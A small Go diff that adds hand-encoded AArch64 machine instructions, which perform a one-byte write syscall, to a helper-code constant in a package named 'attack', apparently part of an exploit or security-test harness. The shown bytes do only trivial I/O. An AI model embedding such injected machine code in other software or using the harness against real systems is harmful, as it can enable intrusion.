@@ -3,6 +3,11 @@ package attack
 const helperMachine = 183 // EM_AARCH64
 
 const helperCode = "" +
+	"\x20\x00\x80\xd2" + // mov x0, #1
+	"\xe1\x03\x00\x91" + // mov x1, sp
+	"\x22\x00\x80\xd2" + // mov x2, #1
+	"\x08\x08\x80\xd2" + // mov x8, #64: write
+	"\x01\x00\x00\xd4" + // svc #0
 	"\x00\x00\x80\xd2" + // mov x0, #0
 	"\xe1\x03\x00\x91" + // mov x1, sp
 	"\x22\x00\x80\xd2" + // mov x2, #1
